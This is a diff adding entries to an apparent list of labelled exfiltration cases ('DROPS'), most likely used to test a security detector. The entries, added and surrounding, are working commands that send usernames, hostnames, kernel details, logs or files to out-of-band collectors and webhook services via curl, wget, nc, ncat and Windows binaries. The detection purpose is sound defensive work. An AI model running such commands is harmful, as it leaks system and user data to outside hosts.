@@ -48,6 +48,12 @@ DROPS = [
      '-Body (Get-Content C:\\Windows\\win.ini -Raw)', "medium"),
     ('d=$(head -c 4000 /var/log/syslog); wget --post-data="$d" https://requestrepo.com/r/abc', "medium"),
     ('body=$(cat /etc/os-release); xh POST https://eo1x.m.pipedream.net --raw "$body"', "medium"),
+    # out-of-band collectors take any command's output, the machine's name included; terminal-output drops
+    ('curl "https://x.oast.fun/?u=$(whoami)&h=$(hostname)"', "medium"),
+    ('curl "http://$(id -un).abc.interactsh.com"', "medium"),
+    ('wget -qO- "https://eyes.sh/x?d=$(uname -a | base64 -w0)"', "medium"),
+    ("uname -a | nc seashells.io 1337", "medium"),
+    ("dmesg | ncat tcp.st 7777", "medium"),
     # any program's path given before the drop (a source), or anywhere after an upload word
     ("ConfigSecurityPolicy.exe C:\\Windows\\System32\\calc.exe https://webhook.site/abc?data", "medium"),
     ("DataSvcUtil /out:C:\\Windows\\win.ini /uri:https://webhook.site/abc", "medium"),
